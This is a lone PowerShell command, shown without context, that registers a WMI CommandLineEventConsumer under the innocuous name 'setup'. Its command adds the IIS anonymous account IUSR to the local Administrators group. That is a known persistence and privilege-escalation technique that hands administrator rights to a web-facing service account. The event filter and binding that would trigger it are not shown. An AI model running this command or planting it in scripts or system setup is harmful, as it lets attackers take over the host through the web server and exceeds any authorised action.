Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{ Name = 'setup'; CommandLineTemplate = 'net localgroup Administrators IUSR /add' }
